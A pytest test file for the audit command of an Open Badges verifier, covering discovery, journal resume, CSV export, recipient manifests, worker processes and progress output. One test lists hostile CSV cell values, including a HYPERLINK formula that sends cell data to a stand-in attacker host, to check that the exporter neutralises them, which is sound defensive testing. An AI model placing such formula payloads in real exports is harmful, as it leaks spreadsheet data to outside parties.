"""The audit's parts: discovery, the journal, the CSV, per-file recipients, non-awarded objects, the
progress bar, processes, and the command's usage errors."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from obverify import audit
from obverify._core.timeparse import parse_datetime
from obverify._orchestration.audit.command import _resume_state
from obverify._orchestration.audit.csv_report import write_csv
from obverify._orchestration.audit.discover import discover
from obverify._orchestration.audit.progress import AuditProgress
from obverify._orchestration.audit.records import AuditRecord, read_journal
from obverify.cli import main

CASES = Path(__file__).resolve().parents[2] / "fixtures" / "cases"
HOSTED = CASES / "ob2-hosted-valid"
AT = "2024-06-01T00:00:00Z"


def _record(path: str, **summary: Any) -> AuditRecord:
    report = {"valid": True, "version": "2.0", "errors": [], "recipient": {"matched": None}, "summary": summary}
    return AuditRecord(path, None, "Assertion", "valid", report)


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+1", "-2", "@SUM(A1)", "\tx", "\rx"]
    buf = io.StringIO()
    write_csv([_record(f"/b/{i}.json", name=h, issuer=h) for i, h in enumerate(hostile)], buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["achievement_name"] for r in rows] == ["'" + h for h in hostile]
    assert [r["issuer_name"] for r in rows] == ["'" + h for h in hostile]
    assert rows[0]["valid"] == "true"


def test_journal_reader_leaves_out_a_torn_line_and_resume_cuts_it(tmp_path: Path) -> None:
    journal = tmp_path / "results.jsonl"
    good = json.dumps({"path": "a", "sha256": "00", "object": "Assertion", "verdict": "valid", "report": {}})
    journal.write_text(good + "\n" + good.replace('"a"', '"b"')[:40])
    assert [r.path for r in read_journal(journal)] == ["a"]
    assert _resume_state(str(tmp_path)) == {"a": "00"}
    assert journal.read_text() == good + "\n"


def test_discovery_is_lazy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(40):
        (tmp_path / f"d{i:02d}").mkdir()
        (tmp_path / f"d{i:02d}" / "f.json").write_text("{}")
    scanned: list[str] = []
    real = os.scandir

    def counting(path: Any) -> Any:
        scanned.append(str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", counting)
    first = next(discover([str(tmp_path)]))
    assert first.endswith("d00/f.json")
    assert len(scanned) == 2  # the root and the first directory: not the 40 others


def test_discovery_reports_dangling_links_and_skips_fifos_and_linked_directories(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text("{}")
    (tmp_path / "dangling.png").symlink_to(tmp_path / "nowhere.png")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "pipe-link").symlink_to(tmp_path / "pipe")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.json").write_text("{}")
    (tmp_path / "loop").symlink_to(tmp_path)
    names = [os.path.relpath(p, tmp_path) for p in discover([str(tmp_path)])]
    assert names == ["a.json", "dangling.png", "sub/b.json"]


def test_verification_runs_in_worker_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(20):
        shutil.copy(HOSTED / "input.json", tmp_path / f"{i:02d}.json")

    def not_here(*_: Any, **__: Any) -> Any:
        raise AssertionError("verified in the parent process")

    # the spawned workers import obverify afresh; the parent's copy of the job module must not be used
    monkeypatch.setattr("obverify._orchestration.audit.job.verify", not_here)
    results = list(audit([tmp_path], jobs=2, at=parse_datetime(AT), documents=HOSTED / "documents", offline=True,
                         recipients=["alice@example.org"]))
    assert [p.name for p, _ in results] == [f"{i:02d}.json" for i in range(20)]  # in input order by default
    assert all(r.valid for _, r in results)
    assert all(r.original is None for _, r in results)


def test_manifest_gives_each_file_its_own_recipient(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "badges").mkdir()
    for name in ("alice.json", "bob.json", "nobody.json"):
        shutil.copy(HOSTED / "input.json", tmp_path / "badges" / name)
    (tmp_path / "manifest.csv").write_text("path,recipient\nbadges/alice.json,x@example.org;alice@example.org\n"
                                           "badges/bob.json,bob@example.org\n")
    status = main(["audit", str(tmp_path / "badges"), "--documents", str(HOSTED / "documents"), "--offline",
                   "--at", AT, "--manifest", str(tmp_path / "manifest.csv"), "--ordered", "--jobs", "2"])
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [Path(x["path"]).name for x in lines] == ["alice.json", "bob.json", "nobody.json"]
    assert lines[0]["valid"] is True
    assert lines[0]["recipient"]["matched"] == "alice@example.org"
    assert [e["code"] for e in lines[1]["errors"]] == ["recipient_mismatch"]
    assert lines[2]["valid"] is True  # not in the manifest, no --recipient: no recipient check
    assert lines[2]["recipient"]["checked"] is False
    assert status == 1


def test_valid_non_awarded_objects_are_not_counted_as_valid_badges(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    for case in ("ob2-standalone-badgeclass", "ob2-standalone-profile"):
        shutil.copy(CASES / case / "input.json", tmp_path / f"{case}.json")
    docs = tmp_path / "docs"
    shutil.copytree(CASES / "ob2-standalone-badgeclass" / "documents", docs)
    status = main(["audit", str(tmp_path / "ob2-standalone-badgeclass.json"), "--documents", str(docs),
                   "--offline", "--at", AT, "--out", str(tmp_path / "out"), "--quiet"])
    counts = dict(item.split("=") for item in capsys.readouterr().err.split())
    (line,) = read_journal(tmp_path / "out" / "results.jsonl")
    assert line.object_type == "BadgeClass"
    assert line.verdict != "valid"
    assert "valid" not in counts
    assert status == 1
    with (tmp_path / "out" / "results.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["verdict"] == line.verdict
    assert rows[0]["object"] == "BadgeClass"


def test_progress_bar_shows_done_total_rate_and_failures() -> None:
    stream = io.StringIO()
    with AuditProgress(True, lambda: 3, stream=stream) as bar:
        bar.advance(False)
        bar.advance(True)
        bar.advance(False)
    text = stream.getvalue()
    assert "3/3" in text
    assert "files/s" in text
    assert "failures: 1" in text


def _run_with_terminal(argv: list[str]) -> str:
    controller, terminal = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "obverify", *argv], stdout=subprocess.DEVNULL,
                            stderr=terminal, env={**os.environ, "COLUMNS": "160"})
    os.close(terminal)
    chunks = []
    while True:
        ready, _, _ = select.select([controller], [], [], 60)
        if not ready:
            break
        try:
            data = os.read(controller, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(60)
    os.close(controller)
    return b"".join(chunks).decode("utf-8", "replace")


def test_progress_bar_only_on_a_terminal_and_not_with_quiet(tmp_path: Path) -> None:
    for i in range(5):
        shutil.copy(HOSTED / "input.json", tmp_path / f"{i}.json")
    argv = ["audit", str(tmp_path), "--documents", str(HOSTED / "documents"), "--offline", "--at", AT, "--jobs", "1"]
    shown = _run_with_terminal(argv)
    assert "5/5" in shown
    assert "files/s" in shown
    assert "failures: 0" in shown
    quiet = _run_with_terminal([*argv, "--quiet"])
    assert "files/s" not in quiet
    assert "valid=5" in quiet
    piped = subprocess.run([sys.executable, "-m", "obverify", *argv], capture_output=True, text=True, check=False)
    assert piped.stderr == "valid=5\n"


@pytest.mark.parametrize("extra", [
    ["--resume"],  # needs --out
    ["--format", "csv"],  # needs --out
    ["--out", "{out}", "--format", "pdf"],
    ["--scheduler", "tcp://127.0.0.1:1"],  # needs --engine dask
    ["--manifest", "{bad_manifest}"],
    ["--documents", "{out}"],  # no index.json
])
def test_usage_errors_exit_2(tmp_path: Path, extra: list[str]) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("file,who\nx,y\n")
    argv = ["audit", str(HOSTED / "input.json"), *[e.format(out=tmp_path / "o", bad_manifest=bad) for e in extra]]
    with pytest.raises(SystemExit) as exc:
        main(argv)
    assert exc.value.code == 2


def test_out_is_never_overwritten_and_resume_keeps_the_first_instant(tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copy(HOSTED / "input.json", tmp_path / "a.json")
    base = ["audit", str(tmp_path / "a.json"), "--documents", str(HOSTED / "documents"), "--offline",
            "--out", str(tmp_path / "out"), "--quiet"]
    assert main([*base, "--at", AT]) == 0
    with pytest.raises(SystemExit):
        main([*base, "--at", AT])  # a second run would overwrite the journal
    with pytest.raises(SystemExit):
        main([*base, "--at", "2025-01-01T00:00:00Z", "--resume"])  # another instant: not the same audit
    with pytest.raises(SystemExit):
        main([*base, "--resume", "--recipient", "bob@example.org"])  # other options: not the same audit
    capsys.readouterr()
    assert main([*base, "--resume"]) == 0  # the first run's instant is reused
    assert "resumed=1" in capsys.readouterr().err
    (line,) = read_journal(tmp_path / "out" / "results.jsonl")
    assert line.report["checkedAt"] == "2024-06-01T00:00:00+00:00"
